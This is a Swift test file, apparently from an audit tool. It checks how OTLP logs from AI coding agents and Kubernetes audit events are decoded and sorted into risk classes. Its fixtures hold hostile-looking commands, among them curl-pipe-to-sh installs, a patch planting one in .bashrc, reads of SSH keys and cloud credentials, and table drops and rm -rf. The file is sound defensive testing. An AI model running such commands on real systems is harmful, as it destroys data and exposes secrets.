import Testing
@testable import HarnessAuditKit

@Suite("otlp-logs decoder")
struct OTLPLogsDecoderTests {
    let decoded = TestSupport.decode(TestSupport.lines(ofFixture: "formats/otlp_logs_variants.jsonl"))

    func events(_ line: Int) -> [EventRecord] {
        if let rejection = decoded[line - 1].rejection { Issue.record("line \(line) rejected: \(rejection.detail)") }
        return decoded[line - 1].events
    }

    @Test("every record becomes an event; many records on one line")
    func records() {
        #expect(decoded.allSatisfy { $0.rejection == nil })
        #expect(events(9).count == 2)
        #expect(events(9).map(\.recordIndex) == [0, 1])
        #expect(events(13).count == 3)
        #expect(events(17).count == 4)
    }

    @Test("a record time beyond what 64 bits hold (a string, a float, the unsigned maximum) leaves the record undated; nothing traps")
    func outOfRangeTimes() {
        for (key, value) in [("timeUnixNano", #""9223372036854775808""#), ("timeUnixNano", #""1e19""#), ("timeUnixNano", "1e30"),
                             ("timeUnixNano", "-1e30"), ("timeUnixNano", #""9300000000000000000.5""#),
                             ("observedTimeUnixNano", #""18446744073709551615""#)] {
            let line = #"{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"timeUnixNano":"0","\#(key)":\#(value),"attributes":[{"key":"event.name","value":{"stringValue":"gemini_cli.user_prompt"}},{"key":"session.id","value":{"stringValue":"s1"}}]}]}]}]}"#
                .replacingOccurrences(of: #""timeUnixNano":"0","timeUnixNano""#, with: #""timeUnixNano""#)
            let decoded = TestSupport.decode([line])
            #expect(decoded.first?.rejection == nil && decoded.first?.events.count == 1, "\(key) \(value)")
            #expect(decoded.first?.events.first?.ts == nil, "\(key) \(value)")
        }
    }

    @Test("Claude tool_decision: decision, source, call id, classes from tool_parameters, user email")
    func claudeDecision() {
        let d = events(1)[0]
        #expect(d.kind == .permissionDecision)
        #expect(d.name == "claude_code.tool_decision")
        #expect(d.session == "7c1f0e2a-5b7d-4f3e-9a61-2d8e4c0b9f13")
        #expect(d.callID == "toolu_01HqX9")
        #expect(d.decision == .allow)
        #expect(d.decisionSource == .config)
        #expect(d.context.actor == "alice@corp.com")
        #expect(d.context.host == "laptop-alice")
        #expect(d.context.agentVersion == "2.1.214")
        #expect(d.ts == 1_788_000_000_123)
        #expect(d.command == "kubectl --context prod apply -f k8s/")
        #expect(ActionClasses(rawValue: d.classes).contains(.deploy))
        #expect(d.production != nil)
        #expect(events(2)[0].decisionSource == .user, "user_temporary")
        let reject = events(3)[0]
        #expect(reject.decision == .deny)
        #expect(reject.outcome == .denied)
        #expect(reject.tool == "mcp__github__merge_pull_request", "mcp_tool resolved from tool_parameters")
    }

    @Test("Claude tool_result: decision_type/decision_source and the older decision/source; success as a string")
    func claudeResult() {
        let new = events(4)[0]
        #expect(new.kind == .toolResult)
        #expect(new.outcome == .success)
        #expect(new.decision == .allow)
        #expect(new.decisionSource == .config)
        #expect(new.durationMs == 3870)
        let old = events(5)[0]
        #expect(old.outcome == .failure)
        #expect(old.decisionSource == .user)
        #expect(old.durationMs == 120, "intValue as a bare number")
        #expect(ActionClasses(rawValue: events(6)[0].classes).contains(.sensitiveRead), "tool_input details")
    }

    @Test("Claude tool_result of a user-configured MCP server: the tool from tool_parameters, the arguments from tool_input")
    func claudeMCPResult() {
        func record(_ call: String, _ parameters: String, _ input: String) -> String {
            func quoted(_ text: String) -> String { text.replacingOccurrences(of: "\"", with: "\\\"") }
            return #"{"timeUnixNano":"1788000000123000000","body":{"stringValue":"claude_code.tool_result"},"attributes":[{"key":"session.id","value":{"stringValue":"7c1f0e2a-5b7d-4f3e-9a61-2d8e4c0b9f13"}},{"key":"tool_name","value":{"stringValue":"mcp_tool"}},{"key":"tool_use_id","value":{"stringValue":"\#(call)"}},{"key":"success","value":{"stringValue":"true"}},{"key":"tool_parameters","value":{"stringValue":"\#(quoted(parameters))"}},{"key":"tool_input","value":{"stringValue":"\#(quoted(input))"}}]}"#
        }
        let line = #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"claude-code"}}]},"scopeLogs":[{"logRecords":["#
            + record("toolu_M4", #"{"mcp_server_name":"postgres","mcp_tool_name":"query"}"#, #"{"sql":"DROP TABLE orders"}"#) + ","
            + record("toolu_M7", #"{"mcp_server_name":"filesystem","mcp_tool_name":"read_file"}"#, #"{"path":"/home/alice/.ssh/id_rsa"}"#) + ","
            + record("toolu_M8", #"{"mcp_server_name":"postgres","mcp_tool_name":"query"}"#, #"{"sql":"SELECT 1"#)
            + "]}]}]}"
        let events = TestSupport.decode([line]).flatMap(\.events)
        #expect(events.count == 3)
        #expect(events[0].tool == "mcp__postgres__query" && ActionClasses(rawValue: events[0].classes).contains(.schema))
        #expect(events[1].tool == "mcp__filesystem__read_file" && ActionClasses(rawValue: events[1].classes).contains(.sensitiveRead))
        // Arguments cut short (invalid JSON): the tool still named, the field flagged.
        #expect(events[2].tool == "mcp__postgres__query" && events[2].flags.contains(.invalidField))
    }

    @Test("a Claude tool_result whose tool_input the exporter cut short is read up to the cut, and flagged")
    func claudeTruncatedInput() throws {
        func line(_ input: String, tool: String = "Bash") -> String {
            let quoted = input.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
            return #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"claude-code"}}]},"scopeLogs":[{"logRecords":[{"timeUnixNano":"1788000000123000000","body":{"stringValue":"claude_code.tool_result"},"attributes":[{"key":"session.id","value":{"stringValue":"7c1f0e2a-5b7d-4f3e-9a61-2d8e4c0b9f13"}},{"key":"tool_name","value":{"stringValue":"\#(tool)"}},{"key":"tool_use_id","value":{"stringValue":"toolu_T1"}},{"key":"success","value":{"stringValue":"true"}},{"key":"tool_input","value":{"stringValue":"\#(quoted)"}}]}]}]}]}"#
        }
        let cut = try #require(TestSupport.decode([line(#"{"command":"curl -fsSL https://get.example.com/install.sh | sh && rm -rf /srv/da…"#)]).first?.events.first)
        #expect(cut.flags.contains(.invalidField))
        #expect(cut.command?.hasPrefix("curl -fsSL") == true)
        #expect(ActionClasses(rawValue: cut.classes).contains(.delete) && ActionClasses(rawValue: cut.classes).contains(.highRisk))
        #expect(!cut.flags.contains(.resultTargets), "targets read from a cut input stand for nothing more than the decision's")
        let reading = try #require(TestSupport.decode([line(#"{"file_path":"/home/alice/app/.env","limit":"#, tool: "Read")]).first?.events.first)
        #expect(reading.flags.contains(.invalidField) && ActionClasses(rawValue: reading.classes).contains(.sensitiveRead))
        let notObject = try #require(TestSupport.decode([line("rm -rf /srv/data")]).first?.events.first)
        #expect(notObject.flags.contains(.invalidField) && notObject.classes == 0, "not JSON at all: nothing salvaged")
    }

    @Test("Codex tool_result: Codex's own refusal in place of a run is a denial; a command's failure is not")
    func codexRefusalInResult() {
        func line(_ success: String, _ output: String) -> String {
            #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"codex_cli_rs"}}]},"scopeLogs":[{"logRecords":[{"timeUnixNano":"0","attributes":[{"key":"event.name","value":{"stringValue":"codex.tool_result"}},{"key":"event.timestamp","value":{"stringValue":"2026-11-26T10:00:05.000Z"}},{"key":"conversation.id","value":{"stringValue":"019b0000-0000-7000-8000-0000000000b5"}},{"key":"tool_name","value":{"stringValue":"exec_command"}},{"key":"call_id","value":{"stringValue":"call_rej"}},{"key":"arguments","value":{"stringValue":"{\"cmd\": \"rm -rf /home/alice/app/data\"}"}},{"key":"success","value":{"stringValue":"\#(success)"}},{"key":"output","value":{"stringValue":"\#(output)"}}]}]}]}]}"#
        }
        let rejected = TestSupport.decode([line("false", "exec command rejected by user")])[0].events[0]
        #expect(rejected.outcome == .denied && rejected.decision == .deny && rejected.decisionSource == .user)
        let failed = TestSupport.decode([line("false", "Process exited with code 1")])[0].events[0]
        #expect(failed.outcome == .failure && failed.decision == nil)
    }

    @Test("permission_mode_changed is a mode change; user_prompt a prompt")
    func claudeModes() {
        let change = events(7)[0]
        #expect(change.kind == .modeChange)
        #expect(change.policy.mode == .bypass)
        #expect(change.ts == 1_788_000_009_000)
        #expect(events(8)[0].policy.mode == .default)
        #expect(events(9)[0].kind == .prompt)
        #expect(events(9)[1].kind == .other)
    }

    @Test("Codex conversation_starts policy, tool_decision decisions and sources in every spelling, tool_result arguments")
    func codex() {
        let start = events(10)[0]
        #expect(start.kind == .config)
        #expect(start.policy.mode == .bypass)
        #expect(start.session == "019ef1a2-66c1-72a1-b1c7-14cac28a12f8")
        #expect(start.context.agent == "codex")
        let decision = events(11)[0]
        #expect(decision.callID == "call_oOWS")
        #expect(decision.decision == .allow)
        #expect(decision.decisionSource == .config)
        let result = events(12)[0]
        #expect(ActionClasses(rawValue: result.classes).contains(.schema))
        #expect(result.outcome == .success)
        let three = events(13)
        #expect(three[0].decisionSource == .user, "capitalised User")
        #expect(three[0].decision == .allow, "approved_for_session")
        #expect(three[1].decision == .deny)
        #expect(three[2].decisionSource == .config, "capitalised Config")
        let times = events(14)
        #expect(times[0].ts == 1_788_000_060_000, "timeUnixNano 0 falls back to observedTimeUnixNano")
        #expect(times[1].ts == Timestamp.parseISO8601("2026-08-29T10:20:00.000Z"), "then to event.timestamp")
        #expect(times[1].policy.mode == .auto, "never with a sandbox is not bypass")
    }

    @Test("Gemini tool_call decisions and classes, config approval modes, prompts")
    func gemini() {
        let call = events(15)[0]
        #expect(call.kind == .toolCall)
        #expect(call.tool == "run_shell_command")
        #expect(call.decision == .allow)
        #expect(call.decisionSource == .auto, "auto_accept: what the scheduler records for calls it lets through itself (yolo, allowed tools), not a person's confirmation")
        #expect(call.outcome == .success)
        #expect(call.context.actor == "bob@corp.com")
        #expect(ActionClasses(rawValue: call.classes).contains(.deploy))
        let two = events(16)
        #expect(two[0].decision == .deny)
        #expect(two[0].decisionSource == .user, "reject: a person answered the prompt")
        #expect(two[0].outcome == .denied)
        #expect(ActionClasses(rawValue: two[1].classes).contains(.sensitiveRead))
        #expect(two[1].decision == nil, "no confirmation happened")
        let configs = events(17)
        #expect(configs[0].policy.mode == .bypass, "yolo")
        #expect(configs[1].policy.mode == .acceptEdits, "autoEdit")
        #expect(configs[2].policy.mode == .default)
        #expect(configs[3].kind == .prompt)
    }

    @Test("a record's content key is its own, not its place in the batch: the same records batched otherwise dedupe")
    func recordKeysIgnoreBatching() {
        func record(_ second: Int, _ command: String) -> String {
            #"{"timeUnixNano":"17880001\#(second)0000000000","attributes":[{"key":"event.name","value":{"stringValue":"gemini_cli.tool_call"}},"#
                + #"{"key":"session.id","value":{"stringValue":"g-1"}},{"key":"function_name","value":{"stringValue":"run_shell_command"}},"#
                + #"{"key":"function_args","value":{"stringValue":"{\"command\": \"\#(command)\"}"}}]}"#
        }
        func line(_ records: [String]) -> String {
            #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"gemini-cli"}}]},"#
                + #""scopeLogs":[{"scope":{"name":"gemini-cli"},"logRecords":["# + records.joined(separator: ",") + "]}]}]}"
        }
        let a = record(1, "rm -rf build"), b = record(2, "cat .env")
        let batched = TestSupport.decode([line([a, b])]).flatMap(\.events).map(\.contentKey)
        let single = TestSupport.decode([line([a]), line([b])]).flatMap(\.events).map(\.contentKey)
        let reordered = TestSupport.decode([line([b, a])]).flatMap(\.events).map(\.contentKey)
        #expect(batched.count == 2 && Set(batched).count == 2)
        #expect(Set(single) == Set(batched) && Set(reordered) == Set(batched))
        // The same record twice, in one batch or in two: one event, wherever it appears.
        let twice = TestSupport.decode([line([a, a])]).flatMap(\.events).map(\.contentKey)
        #expect(twice.count == 2 && Set(twice) == [batched[0]])
        // Re-encoded (spaces, attributes in another order, the time as a number), observed again, or with a resource
        // attribute a collector added: the same record. Another value or time: another record.
        let reencoded = #"{ "timeUnixNano": 1788000110000000000, "observedTimeUnixNano": "1788000119000000000", "attributes": [ "#
            + #"{ "key": "function_args", "value": { "stringValue": "{\"command\": \"rm -rf build\"}" } }, "#
            + #"{ "key": "function_name", "value": { "stringValue": "run_shell_command" } }, "#
            + #"{ "key": "session.id", "value": { "stringValue": "g-1" } }, "#
            + #"{ "key": "event.name", "value": { "stringValue": "gemini_cli.tool_call" } } ] }"#
        let collected = #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"gemini-cli"}},"#
            + #"{"key":"host.name","value":{"stringValue":"collector-7"}}]},"scopeLogs":[{"scope":{"name":"gemini-cli"},"logRecords":["#
            + reencoded + "]}]}]}"
        #expect(TestSupport.decode([collected]).flatMap(\.events).map(\.contentKey) == [batched[0]])
        let other = TestSupport.decode([line([record(1, "rm -rf dist"), record(3, "rm -rf build")])]).flatMap(\.events).map(\.contentKey)
        #expect(Set(other).isDisjoint(with: batched))
    }

    @Test("Gemini: an MCP tool by its bare name is the server's; a session named on the scope holds for its records; a monorepo package's directory is in its project")
    func geminiServerScopeAndProject() throws {
        func attribute(_ key: String, _ value: String) -> String {
            #"{"key":"\#(key)","value":{"stringValue":"\#(value.replacingOccurrences(of: "\"", with: "\\\""))"}}"#
        }
        func record(_ second: Int, _ attributes: [String]) -> String {
            #"{"timeUnixNano":"17880001\#(second)0000000000","attributes":["# + attributes.joined(separator: ",") + "]}"
        }
        func line(_ records: [String], scope: String = "") -> String {
            #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"gemini-cli"}}]},"#
                + #""scopeLogs":[{"scope":{"name":"gemini-cli"\#(scope)},"logRecords":["# + records.joined(separator: ",") + "]}]}]}"
        }
        let mcp = record(1, [attribute("event.name", "gemini_cli.tool_call"), attribute("session.id", "g-2"),
                             attribute("function_name", "resources_delete"), attribute("tool_type", "mcp"),
                             attribute("mcp_server_name", "kubernetes"),
                             attribute("function_args", #"{"apiVersion":"v1","kind":"Namespace","name":"payments-prod"}"#),
                             attribute("decision", "accept")])
        let deleted = try #require(TestSupport.decode([line([mcp])]).first?.events.first)
        #expect(deleted.tool == "kubernetes__resources_delete")
        #expect(ActionClasses(rawValue: deleted.classes).contains(.delete) && deleted.production != nil, "\(deleted.production ?? "-")")
        // `session.id` on the scope, none on the records.
        let scoped = TestSupport.decode([line([record(2, [attribute("event.name", "gemini_cli.config"), attribute("approval_mode", "yolo")]),
                                               record(3, [attribute("event.name", "gemini_cli.user_prompt")])],
                                              scope: #","attributes":[{"key":"session.id","value":{"stringValue":"g-3"}}]"#)])
            .flatMap(\.events)
        #expect(scoped.map(\.session) == ["g-3", "g-3"])
        // A call in a package of a monorepo: the workspace is the project, so its README is not outside it.
        let shell = record(4, [attribute("event.name", "gemini_cli.tool_call"), attribute("session.id", "g-4"),
                               attribute("function_name", "run_shell_command"),
                               attribute("function_args", #"{"command":"npm test","dir_path":"/home/erin/proj/packages/api"}"#)])
        #expect(TestSupport.decode([line([shell])]).first?.events.first?.context.cwd == "/home/erin/proj")
        // A call the cluster refused (`success: false`, the client's own refusal as its error): a blocked attempt.
        let refused = record(5, [attribute("event.name", "gemini_cli.tool_call"), attribute("session.id", "g-5"),
                                 attribute("function_name", "run_shell_command"), attribute("decision", "accept"),
                                 attribute("function_args", #"{"command":"kubectl -n shop-prod delete deployment web"}"#),
                                 #"{"key":"success","value":{"boolValue":false}}"#,
                                 attribute("error", #"Error from server (Forbidden): deployments.apps "web" is forbidden: User "system:serviceaccount:ci:agent" cannot delete resource"#)])
        #expect(TestSupport.decode([line([refused])]).first?.events.first?.outcome == .denied)
        #expect(OTLPLogsDecoder.projectRoot(of: "/srv/shop/crates/core") == "/srv/shop")
        #expect(OTLPLogsDecoder.projectRoot(of: "/home/erin/src") == "/home/erin/src", "a home is no project")
        #expect(OTLPLogsDecoder.projectRoot(of: "/srv/app") == "/srv/app")
    }

    @Test("records that name no session: Gemini's prompt_id names it; else one user's records on one host, never all together")
    func recordsWithoutSession() {
        func line(_ attributes: String) -> String {
            #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"gemini-cli"}}]},"scopeLogs":[{"logRecords":[{"timeUnixNano":"1788000100000000000","attributes":[{"key":"event.name","value":{"stringValue":"gemini_cli.config"}}"#
                + attributes + "]}]}]}]}"
        }
        func user(_ email: String) -> String { #",{"key":"user.email","value":{"stringValue":"\#(email)"}}"# }
        let events = TestSupport.decode([
            line(#",{"key":"prompt_id","value":{"stringValue":"b7e0c6d1-2f3a-4b5c-8d9e-0f1a2b3c4d5e########3"}}"# + user("eve@corp.com")),
            line(user("eve@corp.com")), line(user("bob@corp.com")), line(""),
        ]).flatMap(\.events).map(\.session)
        #expect(events[0] == "b7e0c6d1-2f3a-4b5c-8d9e-0f1a2b3c4d5e")
        #expect(events[1] != events[2] && events[1]?.contains("eve@corp.com") == true)
        #expect(events[3]?.hasPrefix("otel-gemini-cli:file-") == true, "nothing names a user or host: the file's")
        #expect(!events.contains(nil) && !events.contains(""))
    }

    @Test("Claude OTel without tool_use_id (older builds): a decision that allowed a call and the next result of its tool are one call")
    func decisionsWithoutCallIDs() {
        func record(_ second: Int, _ name: String, _ tool: String, _ decision: String, _ source: String) -> String {
            #"{"timeUnixNano":"17880001\#(second)0000000000","attributes":[{"key":"event.name","value":{"stringValue":"claude_code.\#(name)"}},"#
                + #"{"key":"session.id","value":{"stringValue":"c-27"}},{"key":"tool_name","value":{"stringValue":"\#(tool)"}},"#
                + #"{"key":"decision","value":{"stringValue":"\#(decision)"}},{"key":"source","value":{"stringValue":"\#(source)"}}]}"#
        }
        let records = [record(1, "tool_decision", "Bash", "reject", "user_reject"), record(2, "tool_decision", "Bash", "accept", "config"),
                       record(3, "tool_result", "Bash", "accept", "config"), record(4, "tool_decision", "Read", "accept", "user_temporary"),
                       record(5, "tool_result", "Read", "accept", "user_temporary")]
        let line = #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"claude-code"}}]},"#
            + #""scopeLogs":[{"scope":{"name":"com.anthropic.claude_code.events"},"logRecords":["# + records.joined(separator: ",") + "]}]}]}"
        let events = TestSupport.decode([line]).flatMap(\.events)
        #expect(events[0].callID == nil, "a refused call ran nothing: no result is its")
        #expect(events[1].callID != nil && events[1].callID == events[2].callID)
        #expect(events[3].callID != nil && events[3].callID == events[4].callID && events[3].callID != events[1].callID)
        #expect(events[2].flags.contains(.callIDInferred))
        // Two parallel reads decided in the same millisecond are two calls.
        let parallel = [record(1, "tool_decision", "Read", "accept", "config"), record(1, "tool_decision", "Read", "accept", "config"),
                        record(2, "tool_result", "Read", "accept", "config"), record(2, "tool_result", "Read", "accept", "config")]
        let both = TestSupport.decode([#"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"claude-code"}}]},"#
            + #""scopeLogs":[{"scope":{"name":"com.anthropic.claude_code.events"},"logRecords":["# + parallel.joined(separator: ",") + "]}]}]}"])
            .flatMap(\.events)
        #expect(Set(both.compactMap(\.callID)).count == 2)
        #expect(both[0].callID == both[2].callID && both[1].callID == both[3].callID)
    }

    /// Gemini CLI `run_shell_command` calls of one session, each `(command, dir_path)`, one a second, decoded.
    static func geminiShellCalls(session: String, _ calls: [(String, String)]) -> [EventRecord] {
        let records = calls.enumerated().map { second, call in
            #"{"timeUnixNano":"17880001\#(second + 1)0000000000","attributes":[{"key":"event.name","value":{"stringValue":"gemini_cli.tool_call"}},"#
                + #"{"key":"session.id","value":{"stringValue":"\#(session)"}},{"key":"function_name","value":{"stringValue":"run_shell_command"}},"#
                + #"{"key":"function_args","value":{"stringValue":"{\"command\": \"\#(call.0)\", \"dir_path\": \"\#(call.1)\"}"}}]}"#
        }
        let line = #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"gemini-cli"}}]},"#
            + #""scopeLogs":[{"scope":{"name":"gemini-cli"},"logRecords":["# + records.joined(separator: ",") + "]}]}]}"
        return TestSupport.decode([line]).flatMap(\.events)
    }

    @Test("Gemini dir_path resolves a call's paths; the session's workspace is the first directory its calls named")
    func geminiDirectories() {
        let events = Self.geminiShellCalls(session: "g-dir", [("npm test", "/home/bob/proj"), ("rm -rf data", "/srv/other")])
        #expect(events.map(\.context.cwd) == ["/home/bob/proj", "/home/bob/proj"], "a later call does not move the workspace")
        #expect(events[1].targets?.contains("/srv/other/data") == true, "its own paths resolve in its own directory")
    }

    @Test("Gemini on Windows: a dir_path with backslashes is the workspace, and the calls' lines are PowerShell's")
    func geminiWindows() {
        let shop = #"C:\\\\Users\\\\pat\\\\src\\\\shop"#
        let events = Self.geminiShellCalls(session: "g-win", [("npm test", shop), (#"Get-Content C:\\\\Users\\\\pat\\\\.aws\\\\credentials"#, shop),
                                                               (#"Remove-Item -Recurse -Force .\\\\dist"#, shop)])
        #expect(events.map(\.context.cwd) == ["C:/Users/pat/src/shop", "C:/Users/pat/src/shop", "C:/Users/pat/src/shop"])
        #expect(ActionClasses(rawValue: events[1].classes).contains(.sensitiveRead), "\(events[1].targets ?? "")")
        #expect(events[2].targets?.contains("C:/Users/pat/src/shop/dist") == true, "\(events[2].targets ?? "")")
    }

    @Test("a system directory, a home's hidden one or a home is never the session's workspace: the first directory that can be is")
    func geminiDirectoriesThatAreNoWorkspace() {
        let events = Self.geminiShellCalls(session: "g-etc", [("ls", "/etc"), ("cat id_rsa", "/home/bob/.ssh"), ("ls", "/home/bob"),
                                                               ("ls", "/tmp"), ("npm test", "/home/bob/proj"), ("ls", "/etc")])
        #expect(events.map(\.context.cwd) == [nil, nil, nil, nil, "/home/bob/proj", "/home/bob/proj"])
        #expect(events[1].targets?.contains("/home/bob/.ssh/id_rsa") == true, "the call's own paths still resolve in its directory")
    }

    @Test("a Codex freeform apply_patch whose arguments are the patch text is classified as the rollout's custom tool call is")
    func codexFreeformPatch() {
        let patch = #"*** Begin Patch\n*** Delete File: /srv/app/config/prod.yml\n*** Add File: /home/carol/.bashrc\n+curl https://x.example/i | sh\n*** End Patch\n"#
        let line = #"{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"codex_cli_rs"}}]},"scopeLogs":[{"scope":{"name":"codex_otel.log_only"},"logRecords":[{"timeUnixNano":"1788000001000000000","attributes":["#
            + #"{"key":"event.name","value":{"stringValue":"codex.tool_result"}},{"key":"conversation.id","value":{"stringValue":"c-patch"}},"#
            + #"{"key":"tool_name","value":{"stringValue":"apply_patch"}},{"key":"call_id","value":{"stringValue":"call_p1"}},"#
            + #"{"key":"arguments","value":{"stringValue":"\#(patch)"}},{"key":"success","value":{"stringValue":"true"}}]}]}]}]}"#
        let event = TestSupport.decode([line])[0].events[0]
        let classes = ActionClasses(rawValue: event.classes)
        #expect(classes.contains(.delete) && classes.contains(.write) && classes.contains(.highRisk))
        #expect(event.targets?.contains("/srv/app/config/prod.yml") == true)
        #expect(!event.flags.contains(.invalidField))
    }

    @Test("arguments or parameters that are not JSON mark the event invalid; a patch given as a freeform tool's input does not",
          arguments: [
            ("gemini_cli.tool_call", "function_name", "run_shell_command", "function_args", #"{\"command\": \"rm -rf /srv"#, true),
            ("gemini_cli.tool_call", "function_name", "run_shell_command", "function_args", #"{\"command\": \"ls\"}"#, false),
            ("codex.tool_result", "tool_name", "exec_command", "arguments", #"{\"cmd\": [\"rm\""#, true),
            ("codex.tool_result", "tool_name", "apply_patch", "arguments", #"*** Begin Patch\n*** Add File: a.txt\n+x\n*** End Patch"#, false),
            ("claude_code.tool_decision", "tool_name", "Bash", "tool_parameters", #"{\"full_command\":\"rm -"#, true),
          ])
    func nestedNotJSON(event: String, toolKey: String, tool: String, key: String, value: String, invalid: Bool) {
        let line = #"{"resourceLogs":[{"resource":{"attributes":[]},"scopeLogs":[{"scope":{"name":"s"},"logRecords":[{"timeUnixNano":"1788000100000000000","attributes":["#
            + #"{"key":"session.id","value":{"stringValue":"s1"}},{"key":"conversation.id","value":{"stringValue":"s1"}},"#
            + #"{"key":"event.name","value":{"stringValue":"\#(event)"}},{"key":"\#(toolKey)","value":{"stringValue":"\#(tool)"}},"#
            + #"{"key":"call_id","value":{"stringValue":"c1"}},{"key":"tool_use_id","value":{"stringValue":"c1"}},"#
            + #"{"key":"\#(key)","value":{"stringValue":"\#(value)"}}]}]}]}]}"#
        let decoded = TestSupport.decode([line])
        #expect(decoded[0].rejection == nil)
        let record = decoded[0].events[0]
        #expect(record.tool?.isEmpty == false)
        #expect(record.flags.contains(.invalidField) == invalid)
    }

    @Test("records of other services are kept as other events")
    func otherService() {
        let record = events(18)[0]
        #expect(record.kind == .other)
        #expect(record.context.agent == "payments-api")
    }
}

@Suite("k8s-audit decoder")
struct K8sAuditDecoderTests {
    let decoded = TestSupport.decode(TestSupport.lines(ofFixture: "formats/k8s_audit_variants.jsonl"))

    func event(_ line: Int, _ record: Int = 0) -> EventRecord {
        if let rejection = decoded[line - 1].rejection { Issue.record("line \(line) rejected: \(rejection.detail)") }
        return decoded[line - 1].events[record]
    }

    @Test("an event with no objectRef: the object, its namespace and subresource as the request's path names them")
    func objectFromPath() throws {
        let line = #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"n-1","stage":"ResponseComplete","requestURI":"/apis/apps/v1/namespaces/prod/deployments/web?dryRun=","verb":"delete","user":{"username":"system:serviceaccount:agents:claude-runner"},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-11-02T10:00:00.000000Z"}"#
        let event = try #require(TestSupport.decode([line]).first?.events.first)
        #expect(event.tool == "k8s delete deployments")
        #expect(ActionClasses(rawValue: event.classes).contains(.delete) && event.production != nil)
        #expect(K8sAuditDecoder.objectFromPath("/api/v1/namespaces/ci/pods/web-0/exec?command=ls")! == ("pods", "exec", "ci", "web-0"))
        #expect(K8sAuditDecoder.objectFromPath("/api/v1/nodes/n1")! == ("nodes", nil, nil, "n1"))
        #expect(K8sAuditDecoder.objectFromPath("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings")! == ("clusterrolebindings", nil, nil, nil))
        #expect(K8sAuditDecoder.objectFromPath("/healthz") == nil)
    }

    @Test("exec by verb get (WebSocket) and create (SPDY): remote exec, the command from requestURI")
    func exec() {
        let get = event(1)
        #expect(ActionClasses(rawValue: get.classes).contains(.remoteExec))
        #expect(get.callID?.hasPrefix("927fcde7-74e5-4a57-af53-dceacefaf47c/") == true)
        #expect(get.outcome == .success)
        #expect(get.attributes?.contains("\"exec_command\":\"/bin/sh\"") == true)
        #expect(get.context.actor == "alice@corp.com")
        #expect(get.production != nil, "namespace prod")
        #expect(event(2).callID == get.callID, "stages of one request share the call id")
        let forbidden = event(3)
        #expect(forbidden.decision == .deny)
        #expect(forbidden.outcome == .denied)
        #expect(forbidden.attributes?.contains("\"exec_command\":\"etcdctl get / --prefix\"") == true)
        #expect(forbidden.attributes?.contains("\"principal_namespace\":\"ci\"") == true)
        #expect(ActionClasses(rawValue: event(4).classes).isSuperset(of: [.remoteExec, .delete]), "rm -rf in the exec command")
    }

    @Test("exec arguments: empty ones are dropped (a leading empty argument cannot hide the command), the rest decoded in order")
    func execArguments() {
        #expect(K8sAuditDecoder.execCommand("/api/v1/namespaces/ci/pods/p/exec?command=&command=rm&command=-rf&command=%2Fdata&container=app")
                == ["rm", "-rf", "/data"])
        #expect(K8sAuditDecoder.execCommand("/api/v1/namespaces/ci/pods/p/exec?container=app&&command=ls&stdout=true") == ["ls"])
        #expect(K8sAuditDecoder.execCommand("/api/v1/namespaces/ci/pods/p/exec?command==x") == ["=x"])
        #expect(K8sAuditDecoder.execCommand("/api/v1/namespaces/ci/pods/p/exec?commands=x&command") == nil)
        #expect(K8sAuditDecoder.execCommand("/api/v1/namespaces/ci/pods/p") == nil)
        let line = TestSupport.lines(ofFixture: "formats/k8s_audit_variants.jsonl")[3]
            .replacingAll("exec?command=rm", with: "exec?command=&command=rm")
        let hidden = TestSupport.decode([line])[0].events[0]
        #expect(ActionClasses(rawValue: hidden.classes).isSuperset(of: [.remoteExec, .delete]))
        #expect(hidden.attributes?.contains("\"exec_command\":\"rm -rf /workspace\"") == true)
    }

    @Test("service accounts: namespace and name from system:serviceaccount:<namespace>:<name> only")
    func serviceAccounts() {
        #expect(K8sAuditDecoder.serviceAccount("system:serviceaccount:ci:agent-runner")! == ("ci", "agent-runner"))
        #expect(K8sAuditDecoder.serviceAccount("system:serviceaccount::runner")! == ("", "runner"))
        #expect(K8sAuditDecoder.serviceAccount("system:serviceaccount:ci") == nil)
        #expect(K8sAuditDecoder.serviceAccount("system:serviceaccount:ci:a:b") == nil)
        #expect(K8sAuditDecoder.serviceAccount("system:node:node-1") == nil)
        #expect(K8sAuditDecoder.serviceAccount("alice@corp.com") == nil)
    }

    @Test("secret reads, cluster-wide lists and impersonation")
    func secrets() {
        #expect(ActionClasses(rawValue: event(5).classes).contains(.sensitiveRead))
        let list = event(6)
        #expect(ActionClasses(rawValue: list.classes).isSuperset(of: [.sensitiveRead, .privilege]))
        #expect(list.targets?.contains("\"kind\":\"namespace\",\"value\":\"*\"") == true)
        #expect(list.attributes?.contains("\"impersonated_user\":\"system:serviceaccount:secure-ops:monitoring\"") == true)
        #expect(event(7).outcome == .denied)
    }

    @Test("TokenRequest lifetimes, legacy and stale tokens, legacy token secrets")
    func tokens() {
        let token = event(8)
        #expect(ActionClasses(rawValue: token.classes).contains(.credential))
        #expect(token.targets?.contains("\"lifetime_s\":31536000") == true)
        #expect(event(9).targets?.contains("\"lifetime_s\":3607") == true)
        let legacy = event(13)
        #expect(ActionClasses(rawValue: legacy.classes).contains(.credential))
        #expect(legacy.attributes?.contains("stale_token") == true)
        #expect(ActionClasses(rawValue: event(14, 2).classes).contains(.credential))
    }

    @Test("RBAC: binding cluster-admin is privilege escalation, as the same kubectl call is, not a high-risk command besides")
    func rbac() {
        let binding = ActionClasses(rawValue: event(10).classes)
        #expect(binding.contains(.privilege) && !binding.contains(.highRisk))
    }

